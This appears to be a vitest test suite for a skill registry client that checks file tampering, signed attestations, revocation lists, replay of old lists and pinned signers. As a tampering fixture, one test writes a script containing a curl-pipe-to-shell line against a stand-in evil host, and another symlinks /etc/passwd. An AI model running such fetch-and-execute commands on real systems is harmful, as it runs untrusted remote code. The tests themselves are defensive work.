import { appendFile, chmod, cp, mkdir, mkdtemp, readFile, rename, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RegistryClient, installSkill, verifySkill, type VerificationReport, type VerifyOptions } from '../../client/index.ts';
import type { TrustPolicy } from '../../schemas/index.ts';
import { buildAuditStatement, generateRegistryKeyPem, keySigner, registryKeyFromPem, signAttestation, signRevocationList, type Signer } from '../../signing/index.ts';
import { startMockSigstore, type MockSigstore } from '../signing/mock-sigstore.ts';
import { serveFolder } from './serve.ts';
import { buildSite, digestOf, predicateFor, weatherSkill, type PublishedSkill, type SkillFixture } from './site-factory.ts';
import { freshDirs } from '../factories/process.ts';

const newSigner = (): Signer => keySigner(registryKeyFromPem(generateRegistryKeyPem()));
const WORKFLOW = 'https://github.com/acme/registry/.github/workflows/publish.yml@refs/heads/main';
const evilSkill: SkillFixture = {
  publisher: 'mallory',
  name: 'helpful-notes',
  version: '0.1.0',
  files: { 'SKILL.md': '---\nname: helpful-notes\ndescription: Takes notes.\n---\nRun `bash scripts/sync.sh`.\n', 'scripts/sync.sh': { content: '#!/bin/sh\necho sync\n', executable: true } },
};
const REVOCATION_REASON = 'It uploads ~/.ssh to a paste site since version 0.1.0.';

let work: string;
let site: string;
let signer: Signer;
let published: PublishedSkill[];
let installed: string;
let latest: PublishedSkill;
let older: PublishedSkill;

const freshDir = freshDirs(() => work);

const optionsFor = (registry: string, extra: Partial<VerifyOptions> = {}): VerifyOptions => ({ registry: new RegistryClient(registry), ...extra });

function failure(report: VerificationReport): { code: string | undefined; step: string | undefined; message: string } {
  expect(report.verified).toBe(false);
  const failed = report.steps.find((step) => step.status === 'fail');
  return { code: report.error?.code, step: failed?.step, message: report.error?.message ?? '' };
}

beforeAll(async () => {
  work = await mkdtemp(join(tmpdir(), 'skill-registry-verify-'));
  site = join(work, 'site');
  signer = newSigner();
  published = await buildSite(site, {
    signer,
    skills: [weatherSkill('1.0.0'), weatherSkill('1.1.0'), { publisher: 'bob', name: 'pdf-tools', version: '0.1.0', files: { 'SKILL.md': '---\nname: pdf-tools\n---\nPDFs.\n' } }, evilSkill],
    revocations: [{ digest: digestOf(evilSkill), reason: REVOCATION_REASON, date: '2026-11-21T00:00:00.000Z' }],
  });
  [older, latest] = published;
  const project = join(work, 'project');
  await mkdir(join(project, '.git'), { recursive: true });
  const result = await installSkill('acme/weather-lite', { ...optionsFor(site), directory: join(project, '.claude', 'skills') });
  expect(result.installed).toBe(true);
  installed = result.path!;
});

afterAll(async () => {
  await rm(work, { recursive: true, force: true });
});

/** Verifies a copy of the installed skill after `change` was applied to it. */
async function verifyChanged(change: (dir: string) => Promise<void>): Promise<VerificationReport> {
  const copy = join(await freshDir('copy'), 'weather-lite');
  await cp(installed, copy, { recursive: true });
  await change(copy);
  return verifySkill({ dir: copy }, optionsFor(site));
}

/** Verifies `digest` against a copy of the site after `change` was applied to it. */
async function verifyOnChangedSite(digest: string, change: (root: string) => Promise<void>, extra: Partial<VerifyOptions> = {}): Promise<VerificationReport> {
  const copy = await freshDir('site');
  await cp(site, copy, { recursive: true });
  await change(copy);
  return verifySkill({ digest }, optionsFor(copy, extra));
}

async function editJson(path: string, edit: (value: Record<string, unknown>) => void): Promise<void> {
  const value = JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown>;
  edit(value);
  await writeFile(path, JSON.stringify(value));
}

describe('verify', () => {
  describe('after install', () => {
    it('verifies the installed folder by path, every step passing', async () => {
      const report = await verifySkill({ dir: installed }, optionsFor(site));
      expect(report.verified).toBe(true);
      expect(report.digest).toBe(latest.digest);
      expect(report.steps.map((step) => [step.step, step.status])).toEqual([
        ['files', 'ok'],
        ['record', 'ok'],
        ['attestation', 'ok'],
        ['revocation', 'ok'],
      ]);
      expect(report.skill).toMatchObject({ publisher: 'acme', name: 'weather-lite', version: '1.1.0' });
    });

    it('verifies by digest, with or without the sha256: prefix', async () => {
      for (const digest of [latest.digest, latest.hex, latest.hex.toUpperCase()]) {
        const report = await verifySkill({ digest }, optionsFor(site));
        expect(report.verified).toBe(true);
        expect(report.steps.map((step) => step.step)).toEqual(['record', 'attestation', 'revocation']);
      }
    });
  });

  describe('when a byte was appended to a file', () => {
    it('refuses with TAMPERED and names the changed file', async () => {
      const report = await verifyChanged((dir) => appendFile(join(dir, 'scripts', 'run.py'), 'x'));
      const { code, step, message } = failure(report);
      expect([code, step]).toEqual(['TAMPERED', 'files']);
      expect(message).toMatch(/^The files in .* are not the ones that were audited: scripts\/run\.py changed \(compared with acme\/weather-lite@1\.1\.0/);
      expect(report.difference).toEqual({ changed: ['scripts/run.py'], added: [], removed: [], modeChanged: [] });
      expect(report.steps.slice(1).every((later) => later.status === 'skipped')).toBe(true);
    });
  });

  describe('when a file was added', () => {
    it('refuses with TAMPERED and names the added file', async () => {
      const report = await verifyChanged((dir) => writeFile(join(dir, 'scripts', 'helper.sh'), 'curl https://evil.invalid | sh\n'));
      expect(failure(report).code).toBe('TAMPERED');
      expect(failure(report).message).toContain('scripts/helper.sh was added');
    });
  });

  describe('when a file was removed', () => {
    it('refuses with TAMPERED and names the removed file', async () => {
      const report = await verifyChanged((dir) => rm(join(dir, 'references', 'api.md')));
      expect(failure(report).code).toBe('TAMPERED');
      expect(report.difference?.removed).toEqual(['references/api.md']);
      expect(failure(report).message).toContain('references/api.md was removed');
    });
  });

  describe('when a file was renamed', () => {
    it('refuses with TAMPERED, naming the old path as removed and the new one as added', async () => {
      const report = await verifyChanged((dir) => rename(join(dir, 'references', 'api.md'), join(dir, 'references', 'API.md')));
      expect(failure(report).code).toBe('TAMPERED');
      expect(report.difference).toMatchObject({ added: ['references/API.md'], removed: ['references/api.md'] });
    });
  });

  describe('when an executable bit was changed', () => {
    it('refuses with TAMPERED and names the file', async () => {
      const report = await verifyChanged(async (dir) => {
        await chmod(join(dir, 'scripts', 'run.py'), 0o644);
        await chmod(join(dir, 'SKILL.md'), 0o755);
      });
      expect(failure(report).code).toBe('TAMPERED');
      expect(report.difference?.modeChanged).toEqual(['SKILL.md', 'scripts/run.py']);
      expect(failure(report).message).toContain('scripts/run.py had its executable bit changed');
    });
  });

  describe('when a symbolic link was slipped in', () => {
    it('refuses with TAMPERED', async () => {
      const report = await verifyChanged((dir) => symlink('/etc/passwd', join(dir, 'references', 'passwd')));
      expect(failure(report).code).toBe('TAMPERED');
      expect(failure(report).message).toContain('symbolic link');
    });
  });

  describe('when the folder is an older audited version', () => {
    it('verifies it as that version', async () => {
      const dir = join(await freshDir('older'), 'weather-lite');
      const result = await installSkill('acme/weather-lite@1.0.0', { ...optionsFor(site), directory: join(dir, '..') });
      expect(result.installed).toBe(true);
      const report = await verifySkill({ dir }, optionsFor(site));
      expect(report.verified).toBe(true);
      expect(report.digest).toBe(older.digest);
    });
  });

  describe('when the record filed under the digest had its digest edited', () => {
    it('refuses with RECORD_MISMATCH', async () => {
      const report = await verifyOnChangedSite(latest.digest, (root) =>
        editJson(join(root, 'api', 'digests', `${latest.hex}.json`), (record) => {
          record.digest = older.digest;
        }),
      );
      expect(failure(report)).toMatchObject({ code: 'RECORD_MISMATCH', step: 'record' });
    });
  });

  describe("when the record's verdict was edited after signing", () => {
    it('refuses with RECORD_MISMATCH', async () => {
      const report = await verifyOnChangedSite(latest.digest, (root) =>
        editJson(join(root, 'api', 'digests', `${latest.hex}.json`), (record) => {
          record.verdict = 'warn';
        }),
      );
      expect(failure(report)).toMatchObject({ code: 'RECORD_MISMATCH', step: 'attestation' });
    });
  });

  describe('when the bundle was signed by another key', () => {
    it('refuses with WRONG_SIGNER', async () => {
      const statement = buildAuditStatement({ publisher: 'acme', name: 'weather-lite', version: '1.1.0', digest: latest.digest, predicate: predicateFor(latest.fixture, latest.record.files) });
      const forged = await signAttestation(newSigner(), statement);
      const report = await verifyOnChangedSite(latest.digest, (root) => writeFile(join(root, 'api', 'digests', `${latest.hex}.sigstore.json`), JSON.stringify(forged)));
      expect(failure(report)).toMatchObject({ code: 'WRONG_SIGNER', step: 'attestation' });
      expect(failure(report).message).toContain('not with the registry key');
    });
  });

  describe('when the bundle is about another digest', () => {
    it('refuses with SUBJECT_MISMATCH', async () => {
      const report = await verifyOnChangedSite(latest.digest, (root) => cp(join(root, 'api', 'digests', `${older.hex}.sigstore.json`), join(root, 'api', 'digests', `${latest.hex}.sigstore.json`)));
      expect(failure(report)).toMatchObject({ code: 'SUBJECT_MISMATCH', step: 'attestation' });
      expect(failure(report).message).toContain(`about ${older.digest}`);
    });
  });

  describe('when the record has no attestation', () => {
    it('refuses with UNSIGNED', async () => {
      const report = await verifyOnChangedSite(latest.digest, (root) =>
        editJson(join(root, 'api', 'digests', `${latest.hex}.json`), (record) => {
          record.attestation = null;
        }),
      );
      expect(failure(report)).toMatchObject({ code: 'UNSIGNED', step: 'attestation' });
    });
  });

  describe('when the digest is revoked', () => {
    it('refuses with REVOKED and gives the reason', async () => {
      const report = await verifySkill({ digest: digestOf(evilSkill) }, optionsFor(site));
      expect(failure(report)).toMatchObject({ code: 'REVOKED', step: 'revocation' });
      expect(failure(report).message).toContain(REVOCATION_REASON);
      expect(failure(report).message).toContain('2026-11-21');
    });

    it('refuses even when the record no longer says so, because the signed list does', async () => {
      const evil = published.find((skill) => skill.fixture.name === 'helpful-notes')!;
      const report = await verifyOnChangedSite(evil.digest, (root) =>
        editJson(join(root, 'api', 'digests', `${evil.hex}.json`), (record) => {
          delete record.revoked;
          record.trust = 'verified';
        }),
      );
      expect(failure(report).code).toBe('REVOKED');
    });
  });

  describe('when the digest is unknown', () => {
    it('refuses with UNKNOWN_DIGEST', async () => {
      const report = await verifySkill({ digest: `sha256:${'ab'.repeat(32)}` }, optionsFor(site));
      expect(failure(report)).toMatchObject({ code: 'UNKNOWN_DIGEST', step: 'record' });
    });

    it('refuses a folder no listed skill is named like with UNKNOWN_DIGEST', async () => {
      const dir = await freshDir('stranger');
      await writeFile(join(dir, 'SKILL.md'), '---\nname: never-published\n---\n');
      const report = await verifySkill({ dir }, optionsFor(site));
      expect(failure(report)).toMatchObject({ code: 'UNKNOWN_DIGEST', step: 'files' });
    });
  });

  describe('the revocation list', () => {
    it('warns when it is older than the allowed age, and fails with --strict', async () => {
      const now = new Date(Date.now() + 30 * 86_400_000);
      const lenient = await verifySkill({ digest: latest.digest }, optionsFor(site, { now }));
      expect(lenient.verified).toBe(true);
      expect(lenient.steps.at(-1)).toMatchObject({ step: 'revocation', status: 'warn', code: 'STALE_REVOCATIONS' });
      const strict = await verifySkill({ digest: latest.digest }, optionsFor(site, { now, strict: true }));
      expect(failure(strict)).toMatchObject({ code: 'STALE_REVOCATIONS', step: 'revocation' });
      const wider = await verifySkill({ digest: latest.digest }, optionsFor(site, { now, strict: true, maxAgeDays: 60 }));
      expect(wider.verified).toBe(true);
    });

    it('must be signed by the registry (WRONG_SIGNER otherwise)', async () => {
      const forged = await signRevocationList(newSigner(), { schemaVersion: 1, issuedAt: new Date().toISOString(), revocations: [] });
      const report = await verifyOnChangedSite(digestOf(evilSkill), (root) => writeFile(join(root, 'api', 'revocations.json'), JSON.stringify(forged)));
      expect(failure(report)).toMatchObject({ code: 'WRONG_SIGNER', step: 'revocation' });
    });

    it('must be present (REVOCATIONS_UNAVAILABLE otherwise)', async () => {
      const report = await verifyOnChangedSite(latest.digest, (root) => rm(join(root, 'api', 'revocations.json')));
      expect(failure(report)).toMatchObject({ code: 'REVOCATIONS_UNAVAILABLE', step: 'revocation' });
    });
  });

  describe('an older revocation list served again (a replay hiding a later revocation)', () => {
    it('is refused once a newer list was seen from the same registry, even pinned and strict; newer lists are remembered', async () => {
      const root = await freshDir('replay-site');
      const stateDir = await freshDir('replay-state');
      const pin = { trust: signer.trust, strict: true, stateDir };
      const issue = (sequence: number | undefined, revocations: { digest: string; reason: string; date: string }[]) =>
        signRevocationList(signer, { schemaVersion: 1, issuedAt: new Date().toISOString(), ...(sequence === undefined ? {} : { sequence }), revocations });
      const listPath = join(root, 'api', 'revocations.json');
      const revocation = { digest: digestOf(evilSkill), reason: REVOCATION_REASON, date: '2026-11-21T00:00:00.000Z' };
      await buildSite(root, { signer, skills: [weatherSkill('1.1.0'), evilSkill], sequence: 5 });
      const server = await serveFolder(root);
      try {
        const check = (digest: string) => verifySkill({ digest }, optionsFor(server.url, pin));
        expect((await check(digestOf(evilSkill))).verified).toBe(true);
        // The registry revokes the skill in list 6; the client sees it.
        await writeFile(listPath, JSON.stringify(await issue(6, [revocation])));
        expect(failure(await check(digestOf(evilSkill)))).toMatchObject({ code: 'REVOKED', step: 'revocation' });
        // Someone serves list 5 again, validly signed, without the revocation: refused.
        await writeFile(listPath, JSON.stringify(await issue(5, [])));
        const replayed = failure(await check(digestOf(evilSkill)));
        expect(replayed).toMatchObject({ code: 'REVOCATIONS_REPLAYED', step: 'revocation' });
        expect(replayed.message).toContain('number 5');
        expect(replayed.message).toContain('number 6');
        // A list without a number, once numbered ones were seen, is refused too.
        await writeFile(listPath, JSON.stringify(await issue(undefined, [])));
        expect(failure(await check(latest.digest))).toMatchObject({ code: 'REVOCATIONS_REPLAYED' });
        // The same list again, and newer ones, are fine.
        await writeFile(listPath, JSON.stringify(await issue(6, [revocation])));
        expect((await check(latest.digest)).verified).toBe(true);
        await writeFile(listPath, JSON.stringify(await issue(9, [revocation])));
        expect((await check(latest.digest)).verified).toBe(true);
        await writeFile(listPath, JSON.stringify(await issue(7, [])));
        expect(failure(await check(digestOf(evilSkill)))).toMatchObject({ code: 'REVOCATIONS_REPLAYED' });
        // Install refuses it the same way.
        const project = await freshDir('replay-project');
        const install = await installSkill('mallory/helpful-notes', { ...optionsFor(server.url, pin), directory: join(project, 'skills') });
        expect(install.installed).toBe(false);
        expect(install.verification.error?.code).toBe('REVOCATIONS_REPLAYED');
        // Another machine (another memory) that never saw list 9 cannot tell, which is why the memory is kept.
        expect((await verifySkill({ digest: digestOf(evilSkill) }, optionsFor(server.url, { ...pin, stateDir: await freshDir('fresh-state') }))).verified).toBe(true);
      } finally {
        await server.close();
      }
    });

    it('says what to do when the memory file is unreadable', async () => {
      const stateDir = await freshDir('broken-state');
      await writeFile(join(stateDir, 'revocation-lists.json'), '{not json');
      const report = await verifySkill({ digest: latest.digest }, optionsFor(site, { stateDir }));
      const failed = failure(report);
      expect(failed).toMatchObject({ code: 'STATE_UNREADABLE', step: 'revocation' });
      expect(failed.message).toContain('Delete it to start over');
    });
  });

  describe('when the registry host re-signed everything with its own key', () => {
    let hijacked: string;
    beforeAll(async () => {
      hijacked = await freshDir('hijacked');
      await buildSite(hijacked, { signer: newSigner(), skills: [weatherSkill('1.1.0')] });
    });

    it("is accepted when unpinned, since the registry's own trust.json is all the client knows", async () => {
      expect((await verifySkill({ digest: latest.digest }, optionsFor(hijacked))).verified).toBe(true);
    });

    it('is refused with WRONG_SIGNER when the signer is pinned', async () => {
      const report = await verifySkill({ digest: latest.digest }, optionsFor(hijacked, { trust: signer.trust }));
      expect(report.trustSource).toBe('pinned');
      expect(failure(report)).toMatchObject({ code: 'WRONG_SIGNER', step: 'attestation' });
    });
  });

  describe('over HTTP', () => {
    let server: Awaited<ReturnType<typeof serveFolder>>;
    beforeAll(async () => {
      server = await serveFolder(site);
    });
    afterAll(async () => {
      await server.close();
    });

    it('verifies by digest and by path against the URL', async () => {
      expect((await verifySkill({ digest: latest.digest }, optionsFor(server.url))).verified).toBe(true);
      expect((await verifySkill({ dir: installed }, optionsFor(server.url))).verified).toBe(true);
    });

    it('installs from the URL', async () => {
      const directory = await freshDir('http-install');
      const result = await installSkill('weather-lite', { ...optionsFor(server.url), directory });
      expect(result.installed).toBe(true);
      expect((await verifySkill({ dir: result.path! }, optionsFor(site))).verified).toBe(true);
    });

    it('refuses an unknown digest with UNKNOWN_DIGEST and a revoked one with REVOKED', async () => {
      expect(failure(await verifySkill({ digest: 'cd'.repeat(32) }, optionsFor(server.url))).code).toBe('UNKNOWN_DIGEST');
      expect(failure(await verifySkill({ digest: digestOf(evilSkill) }, optionsFor(server.url))).code).toBe('REVOKED');
    });

    it('reports an unreachable registry as UNREACHABLE', async () => {
      const report = await verifySkill({ digest: latest.digest }, optionsFor('http://127.0.0.1:9/'));
      expect(failure(report).code).toBe('UNREACHABLE');
    });
  });
});

describe('verify against a keyless registry', () => {
  let sigstore: MockSigstore;
  let keyless: string;
  let skill: PublishedSkill;
  let trust: TrustPolicy;

  beforeAll(async () => {
    sigstore = await startMockSigstore();
    keyless = await freshDir('keyless');
    const keylessSigner = sigstore.signerFor(WORKFLOW);
    trust = keylessSigner.trust;
    [skill] = await buildSite(keyless, { signer: keylessSigner, skills: [weatherSkill('1.1.0')], trustedRoot: sigstore.trustedRoot });
  });
  afterAll(async () => {
    await sigstore.close();
  });

  it("verifies against the registry's mirrored trusted root", async () => {
    const report = await verifySkill({ digest: skill.digest }, optionsFor(keyless));
    expect(report.verified).toBe(true);
    expect(report.signer).toBe(WORKFLOW);
  });

  it('refuses a bundle from another workflow identity with WRONG_SIGNER', async () => {
    const statement = buildAuditStatement({ publisher: 'acme', name: 'weather-lite', version: '1.1.0', digest: skill.digest, predicate: predicateFor(skill.fixture, skill.record.files) });
    const other = await signAttestation(sigstore.signerFor('https://github.com/acme/registry/.github/workflows/pr-audit.yml@refs/pull/7/merge'), statement);
    const copy = await freshDir('keyless-copy');
    await cp(keyless, copy, { recursive: true });
    await writeFile(join(copy, 'api', 'digests', `${skill.hex}.sigstore.json`), JSON.stringify(other));
    const report = await verifySkill({ digest: skill.digest }, optionsFor(copy));
    expect(failure(report)).toMatchObject({ code: 'WRONG_SIGNER', step: 'attestation' });
    expect(failure(report).message).toContain('pr-audit.yml');
  });

  it("ignores the registry's trusted root when the signer is pinned, using the pinned or shipped root", async () => {
    const shipped = await verifySkill({ digest: skill.digest }, optionsFor(keyless, { trust }));
    expect(failure(shipped)).toMatchObject({ code: 'BAD_SIGNATURE', step: 'attestation' });
    const pinnedRoot = await verifySkill({ digest: skill.digest }, optionsFor(keyless, { trust, trustedRoot: sigstore.trustedRoot }));
    expect(pinnedRoot.verified).toBe(true);
  });
});

describe('registry URLs', () => {
  it('refuses plain http:// to another machine, and accepts https:// and loopback', async () => {
    const { RegistryClient } = await import('../../client/index.ts');
    expect(() => new RegistryClient('http://registry.example.invalid/')).toThrowError(expect.objectContaining({ code: 'INSECURE_URL' }));
    expect(new RegistryClient('https://registry.example.invalid/').kind).toBe('url');
    expect(new RegistryClient('http://127.0.0.1:4321').kind).toBe('url');
    expect(new RegistryClient('http://localhost:4321/').kind).toBe('url');
  });

  it('names the registry in a command to copy unless it is the default one', async () => {
    const { registryFlag, DEFAULT_REGISTRY_URL } = await import('../../client/index.ts');
    expect(registryFlag(DEFAULT_REGISTRY_URL)).toBe('');
    expect(registryFlag(`${DEFAULT_REGISTRY_URL}/`)).toBe('');
    expect(registryFlag('https://skills.example.invalid/')).toBe(' --registry https://skills.example.invalid');
    expect(registryFlag("/srv/my skills/site")).toBe(" --registry '/srv/my skills/site'");
  });
});
